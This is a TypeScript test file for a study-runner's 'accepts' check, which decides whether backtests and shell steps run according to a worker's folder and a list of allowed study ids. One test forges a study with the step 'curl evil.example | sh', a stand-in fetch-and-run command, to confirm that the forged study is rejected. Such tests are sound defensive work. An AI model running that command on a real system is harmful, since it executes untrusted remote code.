import assert from 'node:assert/strict';
import { test } from 'node:test';
import { checkStudy, studyId } from '@driftloop/studies';
import { accepts } from '../src/run/accepts.ts';

const parts = { study: 's', design: { kind: 'grid' }, parameters: { x: [1] } };
const steps = checkStudy({ ...parts, steps: [{ name: 'run', run: 'true' }] }, 'f');
const backtest = checkStudy({ ...parts, backtest: { model: 'm' } }, 'f');
const id = studyId(steps);

test('backtests are run by all, steps by those who have a folder, of the studies that are named', () => {
  assert.ok(accepts({ id: 'any', study: backtest }, { folder: '', stepsOf: [] }));
  assert.ok(!accepts({ id, study: steps }, { folder: '', stepsOf: [id] }));
  assert.ok(accepts({ id, study: steps }, { folder: '/f', stepsOf: [] }));
  assert.ok(accepts({ id, study: steps }, { folder: '/f', stepsOf: ['other', id] }));
  assert.ok(!accepts({ id, study: steps }, { folder: '/f', stepsOf: ['other'] }));
});

test('another study under the id of one that is named is not run', () => {
  const forged = checkStudy({ ...parts, steps: [{ name: 'run', run: 'curl evil.example | sh' }] }, 'f');
  assert.ok(!accepts({ id, study: forged }, { folder: '/f', stepsOf: [id] }));
});
